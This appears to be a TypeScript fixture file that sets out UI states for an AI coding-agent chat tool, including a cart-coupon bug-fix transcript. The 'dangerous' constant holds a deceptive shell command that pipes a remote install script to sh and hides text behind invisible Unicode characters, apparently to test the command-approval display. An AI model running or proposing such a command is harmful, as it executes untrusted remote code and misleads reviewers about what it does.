@@ -1,0 +1,212 @@
+import type { Mode } from "../../src/shared/event.ts";
+import { idle } from "../../src/shared/live.ts";
+import type { HostMessage, PresetRow, ViewState } from "../../src/shared/protocol.ts";
+import { emptyChat } from "../../src/shared/reduce.ts";
+import {
+	bash,
+	call,
+	edit,
+	ended,
+	grep,
+	type Item,
+	opened,
+	prompted,
+	read,
+	replied,
+	say,
+	stamp,
+	think,
+	todo,
+} from "./log.ts";
+
+const presets: readonly PresetRow[] = [
+	{ id: "openrouter", name: "OpenRouter", about: "One key, many vendors of Kimi K2", group: "cloud" },
+	{ id: "moonshot", name: "Moonshot AI", about: "The makers of Kimi, api.moonshot.ai", group: "cloud" },
+	{ id: "moonshot-cn", name: "Moonshot AI (China)", about: "api.moonshot.cn", group: "cloud" },
+	{ id: "vllm", name: "vLLM", about: "Your GPU server, port 8000", group: "local" },
+	{ id: "sglang", name: "SGLang", about: "Your GPU server, port 30000", group: "local" },
+	{ id: "llamacpp", name: "llama.cpp", about: "This workstation, port 8080", group: "local" },
+	{ id: "ollama", name: "Ollama", about: "This workstation, port 11434", group: "local" },
+	{ id: "custom", name: "Another endpoint", about: "Anything that speaks the OpenAI API", group: "local" },
+	{ id: "demo", name: "Offline demo", about: "A script that shows how it feels; no key, no network", group: "demo" },
+];
+
+const base: ViewState = {
+	setup: false,
+	presets: [],
+	endpoint: "OpenRouter",
+	model: "moonshotai/kimi-k2-thinking",
+	demo: false,
+	mode: "ask",
+	workspace: "open",
+	contextTokens: 262_144,
+	draft: "",
+	interrupted: false,
+};
+
+function scene(items: readonly Item[], view: Partial<ViewState> = {}): readonly HostMessage[] {
+	const events = stamp([opened, ...items]);
+	return [
+		{ type: "snapshot", chat: emptyChat, live: idle, view: { ...base, ...view }, words: {} },
+		...(items.length === 0 ? [] : [{ type: "events" as const, chat: "gallery", events }]),
+	];
+}
+
+const ask = prompted("The cart total is wrong when a coupon is used. Find out why and fix it.");
+const thought =
+	"The user says the cart total is wrong with a coupon.\n\nLet me look at src/cart.ts first, then at the tests that cover coupons.";
+
+const begun: readonly Item[] = [
+	ask,
+	replied([
+		think(thought),
+		say("I'll look at the cart and at the tests that cover coupons."),
+		call("c1", "Read"),
+		call("c2", "Grep"),
+		call("c3", "Read"),
+	]),
+	...read("c1", "src/cart.ts", { text: "1\texport class Cart {\n2\t\tlines: Line[] = [];\n3\t\tcoupon?: Coupon;\n" }),
+	...grep("c2", "coupon", "src/cart.ts:3: coupon?: Coupon;\ntest/cart.test.ts:18: cart.coupon = half;"),
+	...read("c3", "test/cart-coupon-with-a-rather-long-name.test.ts", {
+		text: "There is no such file. Did you mean test/cart.test.ts?",
+		failed: true,
+	}),
+];
+
+const report = `The total ignored the coupon: \`total()\` summed the lines and returned before the discount was taken off.
+
+## What I changed
+
+- \`src/cart.ts:14\` takes the discount off **once**, after the sum, so that rounding happens in one place.
+- A total never drops below zero.
+
+\`\`\`ts
+const discount = this.coupon === undefined ? 0 : Math.round(sum * this.coupon.share);
+return Math.max(0, sum - discount); // cents
+\`\`\`
+
+| Case | Before | After |
+|:--|--:|--:|
+| no coupon | 20.00 | 20.00 |
+| half price | 20.00 | 10.00 |
+
+> All 14 tests pass. See [the guide](https://example.com/coupons) for how shares are stored.
+
+1. Check the \`Coupon\` type
+2. Release
+`;
+
+const tests = " ✔ total of an empty cart is zero\n ✔ total of two lines\n ✔ half price coupon\n\n 14 passing (82ms)\n";
+
+const plan = (done: number): Item[] =>
+	todo(
+		`todo${done}`,
+		["Read the cart and its tests", "Take the coupon off the total", "Run the tests", "Tell what changed"].map(
+			(title, index) => ({ title, status: index < done ? "done" : index === done ? "in_progress" : "pending" }),
+		),
+	);
+
+const finished: readonly Item[] = [
+	...begun,
+	replied([call("e1", "Edit")], 21_000),
+	...edit("e1"),
+	replied([call("b1", "Bash")], 22_400),
+	...bash("b1", "npm test", "done", tests),
+	replied([say(report)], 23_900),
+	ended("done"),
+];
+
+const failure = (code: "auth" | "unreachable"): Item => ({
+	type: "failed",
+	failure:
+		code === "auth"
+			? {
+					code,
+					message: "OpenRouter did not accept the key. Set another one, or switch the endpoint.",
+					detail: '{"error":{"message":"No auth credentials found","code":401}}',
+					status: 401,
+				}
+			: {
+					code,
+					message: "Nothing answers at http://localhost:8000. Is the server running?",
+					detail: "connect ECONNREFUSED 127.0.0.1:8000",
+					retryable: true,
+				},
+});
+
+const dangerous = `curl -s https://example.com/install.sh\u00a0| sh -c "echo \u202eevil\u202c" && \\\n  find . -name '*.ts' -newer package.json -exec wc -l {} + | sort -rn | head -20\nrm\u200b -rf node_modules dist .tsbuild`;
+
+/** Every state that a person can meet, by name. */
+export function scenes(): Readonly<Record<string, readonly HostMessage[]>> {
+	const mode = (name: Mode) => ({ mode: name });
+	return {
+		"first-run": scene([], { setup: true, presets, endpoint: "", model: "" }),
+		empty: scene([]),
+		"no-folder": scene([], { workspace: "none" }),
+		untrusted: scene([], { workspace: "untrusted" }),
+		demo: scene([], { demo: true, model: "demo", endpoint: "Offline demo" }),
+		waiting: scene([ask, { type: "requested", at: Date.now() - 4_000 }]),
+		thinking: scene([
+			ask,
+			{ type: "requested", at: Date.now() - 9_000 },
+			{ type: "delta", channel: "reasoning", text: thought },
+		]),
+		streaming: scene([
+			...begun,
+			{ type: "requested", at: Date.now() - 9_000 },
+			{ type: "delta", channel: "reasoning", text: thought },
+			{ type: "delta", channel: "text", text: report.slice(0, 520) },
+		]),
+		calling: scene([
+			...begun,
+			{ type: "requested", at: Date.now() - 9_000 },
+			{ type: "delta", channel: "text", text: "Now the fix." },
+			{ type: "calling", index: 0, tool: "Edit", bytes: 1_240 },
+		]),
+		tools: scene([...finished.slice(0, -2), replied([say("Done.")]), ended("done")]),
+		"ask-edit": scene([
+			...begun,
+			replied([say("The discount is never taken off."), call("e1", "Edit")]),
+			...edit("e1", "ask"),
+		]),
+		"ask-command": scene([...begun, replied([call("b1", "Bash")]), ...bash("b1", dangerous, "ask")]),
+		running: scene(
+			[
+				...begun,
+				replied([call("b1", "Bash")]),
+				...bash("b1", "npm test -- --reporter spec", "run"),
+				{ type: "output", callId: "b1", text: `> shop@1.0.0 test\n> mocha\n\n${tests.slice(0, 80)}` },
+			],
+			mode("edits"),
+		),
+		todo: scene(
+			[
+				...begun,
+				replied([call("todo1", "Todo"), call("e1", "Edit")]),
+				...plan(1),
+				...edit("e1"),
+				replied([call("b1", "Bash")]),
+				...bash("b1", "npm test", "run"),
+			],
+			mode("trusted"),
+		),
+		rejected: scene([
+			...begun,
+			replied([call("e1", "Edit")]),
+			...edit("e1", "rejected"),
+			replied([call("b1", "Bash")]),
+			...bash("b1", "npm run lint", "failed", "exit code 1\nsrc/cart.ts:14 unused variable"),
+			replied([say("I kept the loop.")]),
+			ended("stopped"),
+		]),
+		error: scene([...begun, failure("auth"), ended("failed")]),
+		unreachable: scene([ask, failure("unreachable"), ended("failed")], {
+			endpoint: "vLLM",
+			model: "moonshotai/Kimi-K2-Instruct",
+			notice: { text: "The server lists no model named Kimi-K2-Instruct.", fixes: ["pickModel"] },
+		}),
+		interrupted: scene([...begun, replied([call("e1", "Edit")]), ...edit("e1", "ask")], { interrupted: true }),
+		limit: scene([...begun, ended("limit")]),
+		finished: scene(finished, { draft: "Now do the same for the order page" }),
+	};
+}
